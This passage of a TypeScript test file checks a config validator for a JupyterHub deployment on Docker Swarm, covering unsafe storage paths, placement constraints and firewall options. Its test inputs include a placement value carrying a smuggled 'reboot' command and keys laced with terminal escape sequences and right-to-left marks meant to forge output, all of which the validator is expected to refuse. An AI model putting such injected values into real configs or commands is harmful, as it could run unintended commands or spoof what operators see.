        ["a relative storage path", { swarm: { storagePath: "storage" } }, /^swarm\.storagePath: must be an absolute path/],
        ["the root as storage", { swarm: { storagePath: "/" } }, /^swarm\.storagePath: is the root, or is, lies in or holds/],
        ["a system directory as storage", { swarm: { storagePath: "/etc/pyiron" } }, /^swarm\.storagePath: is the root, or is, lies in or holds/],
        ["Docker's own directory as storage", { swarm: { storagePath: "/var/lib/docker/volumes" } }, /^swarm\.storagePath: is the root, or is, lies in or holds/],
        ["a storage path through ..", { swarm: { storagePath: "/srv/../etc" } }, /^swarm\.storagePath: is not a plain path/],
        ["a placeholder in the storage path", { swarm: { storagePath: "/srv/{username}" } }, /^swarm\.storagePath: is not a plain path of letters/],
        ["a colon in the storage path", { swarm: { storagePath: "/srv/a:b" } }, /^swarm\.storagePath: holds a colon or comma/],
        ["a constraint that is no constraint", { swarm: { storagePath: "/srv/s", placement: ["worker"] } }, /^swarm\.placement\[0\]: is not a placement constraint/],
        ["a constraint with a shell word", { swarm: { storagePath: "/srv/s", placement: ["node.role==worker;reboot"] } }, /^swarm\.placement\[0\]: is not a placement constraint/],
        ["an unknown key", { swarm: { storagePath: "/srv/s", volumeDriver: "nfs" } }, /^swarm\.volumeDriver: /],
        ["a list set without an index", { swarm: { storagePath: "/srv/s", placement: "node.role==worker" } }, /^swarm\.placement: is a string, expected list of constraints/],
        ["a directory the system empties", { swarm: { storagePath: "/tmp/pyiron" } }, /^swarm\.storagePath: is the root, or is, lies in or holds a directory of the system/],
        ["another one", { swarm: { storagePath: "/var/tmp" } }, /^swarm\.storagePath: is the root, or is, lies in or holds/],
        ["a parent of Docker's data", { swarm: { storagePath: "/var/lib" } }, /^swarm\.storagePath: is the root, or is, lies in or holds/],
        ["an invisible character", { swarm: { storagePath: "/srv/a\u00adb" } }, /^swarm\.storagePath: is not a plain path of letters/],
        ["a Hangul filler", { swarm: { storagePath: "/srv/\u3164" } }, /^swarm\.storagePath: is not a plain path of letters/],
        ["a path longer than a mount takes", { swarm: { storagePath: `/srv/${long(300)}` } }, /^swarm\.storagePath: is not a plain path of letters/],
        ["a trailing slash", { swarm: { storagePath: "/srv/storage/" } }, /^swarm\.storagePath: ends in \//],
        ["a role no node has", { swarm: { storagePath: "/srv/s", placement: ["node.role==leader"] } }, /^swarm\.placement\[0\]: names a value no node has/],
        ["an OS no node runs", { swarm: { storagePath: "/srv/s", placement: ["node.platform.os==windows"] } }, /^swarm\.placement\[0\]: names a value no node has/],
        ["a key swarmkit does not know", { swarm: { storagePath: "/srv/s", placement: ["node.engine.labels.x==y"] } }, /^swarm\.placement\[0\]: is not a placement constraint/],
        ["two roles at once", { swarm: { storagePath: "/srv/s", placement: ["node.role==manager", "node.role==worker"] } }, /^swarm\.placement\[1\]: "node\.role==worker" contradicts swarm\.placement\[0\]/],
        ["a label and its negation", { swarm: { storagePath: "/srv/s", placement: ["node.labels.a==b", "node.labels.a != b"] } }, /^swarm\.placement\[1\]: .* contradicts swarm\.placement\[0\]/],
        ["a user whose server name is too long for a swarm service", { swarm: { storagePath: "/srv/s" }, admins: ["jean-pierre.dupont@physik.uni-example.de"] }, /^admins\[0\]: .* makes the swarm service name .*, 68 characters of at most 63/],
        ["the user firewall asked for", { swarm: { storagePath: "/srv/s" }, userFirewall: "true" }, /^userFirewall: works on one Docker host only/],
        ["host ports of a firewall it does not have", { swarm: { storagePath: "/srv/s" }, userHostPorts: [3141] }, /^userHostPorts: opens ports in the user firewall/],
        ["job activity asked for", { swarm: { storagePath: "/srv/s" }, keepServersWithRunningJobs: "true" }, /^keepServersWithRunningJobs: reads user servers' processes/],
        ["the HPC layer", { swarm: { storagePath: "/srv/s" }, hpc: { clusters: [{ name: "lab", host: "login", hostKeys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIjTZdOB8UhU7bE5PCJPFOVQvsZROrEq16yaSKrcKoj9"], partitions: [{ name: "b", cores: 1, runTime: 600 }] }] } }, /^hpc: the HPC layer is an image built on the manager/],
    ],
    "echoes that could forge or flood the output": [
        ["an escape sequence in a key", { "pyiron-jupyterhub:x\u001b[2Jy": "1" }, /^"x\\u001b\[2Jy": is not a config key of this project/],
        ["a carriage return in a key", { "pyiron-jupyterhub:a\rb": "1" }, /^"a\\rb": is not a config key/],
        ["a right-to-left mark in a key", { "pyiron-jupyterhub:a\u202eb": "1" }, /^"a\\u202eb": is not a config key/],
        ["a newline in a key", { "pyiron-jupyterhub:mem\nLimit": "2G" }, /^"mem\\nLimit": is not a config key/],
        ["a long bad value", { memLimit: long(5000, "9") }, /^memLimit: is longer than 16 characters/],
        ["a right-to-left mark in a value", { memLimit: "2\u202eG" }, /^memLimit: holds a control character/],
    ],
};

describe("values that look structured but are plain", () => {
    it("takes a client secret starting with [ or { as a string, and never shows it", () => {
        for (const secret of ["[abc", "{not json", "[1,2]"]) {
            const config = parseConfig(projectKeys(flat({ keycloakClientSecret: secret })));
            assert.equal(config.mode === "production" && config.clientSecret, secret);
        }
        assert.throws(() => parseConfig(projectKeys(flat({ keycloakClientSecret: "[abc", memLimit: "2GB" }))), (e: Error) => !e.message.includes("[abc"));
    });
});

describe("bad input is refused by class, with the key first", () => {
    let total = 0;
    for (const [cls, rows] of Object.entries(CLASSES)) {
        describe(cls, () => {
            for (const [what, overrides, expected] of rows) {
                total++;
                it(`refuses ${what}`, () => {
                    const problems = problemsOf(overrides);
                    assert.ok(problems.some((p) => expected.test(p)), `no problem matches ${expected}:\n${problems.join("\n")}`);
                    const text = problems.join("\n");
                    // No message carries the client secret, a control character, or more than a screenful.
                    assert.ok(!text.includes(SECRET), "a message shows the client secret");
                    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/, "a message holds a raw control character");
                    assert.ok(text.length < 20000, `the message is ${text.length} characters long`);
                });
            }
        });
    }
    it("has at least 120 cases", () => assert.ok(total >= 120, `${total} cases`));
});
